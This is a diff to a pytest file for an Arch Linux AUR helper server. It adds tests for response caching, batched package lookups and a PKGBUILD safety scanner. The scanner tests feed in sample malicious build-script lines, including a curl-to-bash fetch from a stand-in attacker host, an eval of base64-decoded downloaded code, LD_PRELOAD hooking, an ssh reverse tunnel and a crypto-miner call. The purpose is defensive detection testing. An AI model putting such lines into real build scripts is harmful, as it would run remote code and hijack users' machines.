@@ -10,11 +10,13 @@ import pytest
 
 from arch_ops_server.aur import (
     AUR_RPC_URL,
+    aur_rpc_cache,
     _format_package_info,
     analyze_package_metadata_risk,
     analyze_pkgbuild_safety,
     get_aur_file,
     get_aur_info,
+    get_aur_info_batch,
     get_pkgbuild,
     search_aur,
 )
@@ -37,7 +39,7 @@ class TestAURSearch:
         )
 
         with patch("httpx.AsyncClient") as mock_client:
-            mock_client.return_value.__aenter__.return_value.get = AsyncMock(
+            mock_client.return_value.get = AsyncMock(
                 return_value=mock_response
             )
 
@@ -58,7 +60,7 @@ class TestAURSearch:
         )
 
         with patch("httpx.AsyncClient") as mock_client:
-            mock_client.return_value.__aenter__.return_value.get = AsyncMock(
+            mock_client.return_value.get = AsyncMock(
                 return_value=mock_response
             )
 
@@ -71,7 +73,7 @@ class TestAURSearch:
     async def test_search_aur_timeout(self):
         """Test AUR search timeout handling."""
         with patch("httpx.AsyncClient") as mock_client:
-            mock_client.return_value.__aenter__.return_value.get = AsyncMock(
+            mock_client.return_value.get = AsyncMock(
                 side_effect=httpx.TimeoutException("Request timed out")
             )
 
@@ -90,7 +92,7 @@ class TestAURSearch:
             mock_get.side_effect = httpx.HTTPStatusError(
                 "Too many requests", request=MagicMock(), response=mock_response
             )
-            mock_client.return_value.__aenter__.return_value.get = mock_get
+            mock_client.return_value.get = mock_get
 
             result = await search_aur("test")
 
@@ -117,7 +119,7 @@ class TestAURPackageInfo:
         )
 
         with patch("httpx.AsyncClient") as mock_client:
-            mock_client.return_value.__aenter__.return_value.get = AsyncMock(
+            mock_client.return_value.get = AsyncMock(
                 return_value=mock_response
             )
 
@@ -137,7 +139,7 @@ class TestAURPackageInfo:
         )
 
         with patch("httpx.AsyncClient") as mock_client:
-            mock_client.return_value.__aenter__.return_value.get = AsyncMock(
+            mock_client.return_value.get = AsyncMock(
                 return_value=mock_response
             )
 
@@ -147,6 +149,151 @@ class TestAURPackageInfo:
             assert result["type"] == "NotFound"
 
 
+class TestAURResponseCache:
+    """Test caching of AUR RPC responses."""
+
+    @pytest.mark.asyncio
+    async def test_repeated_search_uses_cache(self, mock_httpx_response, sample_aur_package):
+        """Test that an identical search is answered without a second request."""
+        mock_response = mock_httpx_response(
+            status_code=200,
+            json_data={"version": 5, "type": "search", "results": [sample_aur_package]},
+        )
+
+        with patch("httpx.AsyncClient") as mock_client:
+            mock_client.return_value.get = AsyncMock(return_value=mock_response)
+
+            first = await search_aur("test")
+            second = await search_aur("test")
+
+            assert first == second
+            mock_client.return_value.get.assert_awaited_once()
+            assert aur_rpc_cache.stats()["hits"] >= 1
+
+    @pytest.mark.asyncio
+    async def test_rate_limit_not_cached(self, mock_httpx_response, sample_aur_package):
+        """Test that a 429 response is retried on the next call."""
+        limited = mock_httpx_response(status_code=429)
+        ok = mock_httpx_response(
+            status_code=200,
+            json_data={"version": 5, "type": "info", "results": [sample_aur_package]},
+        )
+
+        with patch("httpx.AsyncClient") as mock_client:
+            mock_client.return_value.get = AsyncMock(side_effect=[limited, ok])
+
+            first = await get_aur_info("test-package")
+            second = await get_aur_info("test-package")
+
+            assert first["error"] is True
+            assert second["data"]["name"] == "test-package"
+
+    @pytest.mark.asyncio
+    async def test_concurrent_identical_requests_coalesce(self, mock_httpx_response, sample_aur_package):
+        """Test single-flight de-duplication of concurrent lookups."""
+        import asyncio
+
+        mock_response = mock_httpx_response(
+            status_code=200,
+            json_data={"version": 5, "type": "info", "results": [sample_aur_package]},
+        )
+
+        async def slow_get(*args, **kwargs):
+            await asyncio.sleep(0.01)
+            return mock_response
+
+        with patch("httpx.AsyncClient") as mock_client:
+            mock_client.return_value.get = AsyncMock(side_effect=slow_get)
+
+            results = await asyncio.gather(*(get_aur_info("test-package") for _ in range(3)))
+
+            assert all(result["data"]["name"] == "test-package" for result in results)
+            mock_client.return_value.get.assert_awaited_once()
+
+
+class TestAURPackageInfoBatch:
+    """Test batched AUR info retrieval."""
+
+    @staticmethod
+    def _rpc_responder(mock_httpx_response, sample_aur_package, known):
+        """Build a fake RPC endpoint that answers multi-arg info requests."""
+        def respond(url, params=None, **kwargs):
+            results = [
+                {**sample_aur_package, "Name": name}
+                for name in params["arg[]"] if name in known
+            ]
+            return mock_httpx_response(
+                status_code=200,
+                json_data={"version": 5, "type": "multiinfo", "results": results},
+            )
+        return respond
+
+    @pytest.mark.asyncio
+    async def test_batch_single_request(self, mock_httpx_response, sample_aur_package):
+        """Test that several names are fetched with one multi-arg request."""
+        respond = self._rpc_responder(mock_httpx_response, sample_aur_package, {"yay", "paru"})
+
+        with patch("httpx.AsyncClient") as mock_client:
+            mock_client.return_value.get = AsyncMock(side_effect=respond)
+
+            result = await get_aur_info_batch(["yay", "paru", "missing", "yay"])
+
+            mock_client.return_value.get.assert_awaited_once()
+            params = mock_client.return_value.get.call_args.kwargs["params"]
+            assert params["arg[]"] == ["yay", "paru", "missing"]
+            assert "warning" in result
+            assert list(result["data"]["packages"]) == ["yay", "paru"]
+            assert result["data"]["not_found"] == ["missing"]
+            assert result["data"]["errors"] == {}
+
+    @pytest.mark.asyncio
+    async def test_batch_chunks_requests(self, mock_httpx_response, sample_aur_package):
+        """Test splitting large batches into several RPC calls."""
+        names = [f"pkg{i}" for i in range(5)]
+        respond = self._rpc_responder(mock_httpx_response, sample_aur_package, set(names))
+
+        with (
+            patch("arch_ops_server.aur.AUR_INFO_CHUNK_SIZE", 2),
+            patch("httpx.AsyncClient") as mock_client,
+        ):
+            mock_client.return_value.get = AsyncMock(side_effect=respond)
+
+            result = await get_aur_info_batch(names)
+
+            assert mock_client.return_value.get.await_count == 3
+            assert list(result["data"]["packages"]) == names
+
+    @pytest.mark.asyncio
+    async def test_batch_chunk_error(self, mock_httpx_response, sample_aur_package):
+        """Test that a failed chunk reports errors for its names only."""
+        ok = self._rpc_responder(mock_httpx_response, sample_aur_package, {"a", "b"})
+
+        def respond(url, params=None, **kwargs):
+            if "c" in params["arg[]"]:
+                raise httpx.TimeoutException("Request timed out")
+            return ok(url, params=params)
+
+        with (
+            patch("arch_ops_server.aur.AUR_INFO_CHUNK_SIZE", 2),
+            patch("httpx.AsyncClient") as mock_client,
+        ):
+            mock_client.return_value.get = AsyncMock(side_effect=respond)
+
+            result = await get_aur_info_batch(["a", "b", "c"])
+
+            assert list(result["data"]["packages"]) == ["a", "b"]
+            assert result["data"]["errors"]["c"]["type"] == "TimeoutError"
+            assert result["data"]["not_found"] == []
+
+    @pytest.mark.asyncio
+    async def test_batch_empty(self):
+        """Test validation of an empty name list."""
+        result = await get_aur_info_batch([])
+
+        assert result["error"] is True
+        assert result["type"] == "ValidationError"
+
+
 class TestPKGBUILDRetrieval:
     """Test PKGBUILD file retrieval."""
 
@@ -156,7 +303,7 @@ class TestPKGBUILDRetrieval:
         mock_response = mock_httpx_response(status_code=200, text_data=sample_pkgbuild_safe)
 
         with patch("httpx.AsyncClient") as mock_client:
-            mock_client.return_value.__aenter__.return_value.get = AsyncMock(
+            mock_client.return_value.get = AsyncMock(
                 return_value=mock_response
             )
 
@@ -171,7 +318,7 @@ class TestPKGBUILDRetrieval:
         mock_response = mock_httpx_response(status_code=200, text_data="install script content")
 
         with patch("httpx.AsyncClient") as mock_client:
-            mock_client.return_value.__aenter__.return_value.get = AsyncMock(
+            mock_client.return_value.get = AsyncMock(
                 return_value=mock_response
             )
 
@@ -189,7 +336,7 @@ class TestPKGBUILDRetrieval:
             mock_get.side_effect = httpx.HTTPStatusError(
                 "Not found", request=MagicMock(), response=mock_response
             )
-            mock_client.return_value.__aenter__.return_value.get = mock_get
+            mock_client.return_value.get = mock_get
 
             with pytest.raises(
                 ValueError, match="PKGBUILD not found|could not be retrieved"
@@ -354,6 +501,68 @@ build() {
         assert safe_result["risk_score"] < dangerous_result["risk_score"]
         assert dangerous_result["risk_score"] > 50
 
+    def test_reports_every_rule_on_a_line(self):
+        """Test that a line matching several rules reports each of them."""
+        pkgbuild = 'package() {\n  eval "$(curl -s https://x.example/a | base64 -d)" >/dev/null 2>&1\n}'
+
+        result = analyze_pkgbuild_safety(pkgbuild)
+        issues = {item["issue"] for item in result["warnings"]}
+
+        assert "Obfuscation: eval usage (can execute arbitrary code)" in issues
+        assert "Obfuscation: base64 decoding detected" in issues
+        assert "Obfuscation: base64 in command substitution" in issues
+        assert "Suspicious: suppressing all output (hiding activity)" in issues
+        assert all(item["line"] == 2 for item in result["warnings"])
+
+    @pytest.mark.parametrize("line", [
+        "  CURL https://evil.example/x.sh | BASH",
+        "  LD_PRELOAD=/tmp/hook.so ./configure",
+        "  gcc -fPIC -shared -o libfoo.so foo.c",
+        "  ssh -R 8080:localhost:80 host",
+        "  make install",
+        "  echo 'ſcript' | sh",
+        "  Ｘmrig --donate-level 1",
+        "  install -Dm755 foo \"$pkgdir/usr/bin/foo\"",
+    ])
+    def test_matches_per_pattern_search(self, line):
+        """Test that the precompiled scanner agrees with re.search per pattern."""
+        import re
+        from arch_ops_server.aur import (
+            PKGBUILD_DANGEROUS_PATTERNS,
+            PKGBUILD_INFO_PATTERNS,
+            PKGBUILD_SUSPICIOUS_PATTERNS,
+        )
+
+        expected = {
+            message
+            for pattern, message in (
+                PKGBUILD_DANGEROUS_PATTERNS + PKGBUILD_SUSPICIOUS_PATTERNS + PKGBUILD_INFO_PATTERNS
+            )
+            if re.search(pattern, line, re.IGNORECASE)
+        }
+
+        result = analyze_pkgbuild_safety(line)
+        found = {
+            item["issue"]
+            for key in ("red_flags", "warnings", "info")
+            for item in result[key]
+            if item["line"] == 1
+        }
+
+        assert found == expected
+
+    def test_patterns_safe_to_lowercase(self):
+        """Test that no rule uses an uppercase escape (the ASCII fast path lowercases patterns)."""
+        import re
+        from arch_ops_server.aur import (
+            PKGBUILD_DANGEROUS_PATTERNS,
+            PKGBUILD_INFO_PATTERNS,
+            PKGBUILD_SUSPICIOUS_PATTERNS,
+        )
+
+        for pattern, _ in PKGBUILD_DANGEROUS_PATTERNS + PKGBUILD_SUSPICIOUS_PATTERNS + PKGBUILD_INFO_PATTERNS:
+            assert not re.search(r"\\[A-Z]", pattern), pattern
+
 
 class TestPackageMetadataRisk:
     """Test package metadata trust scoring."""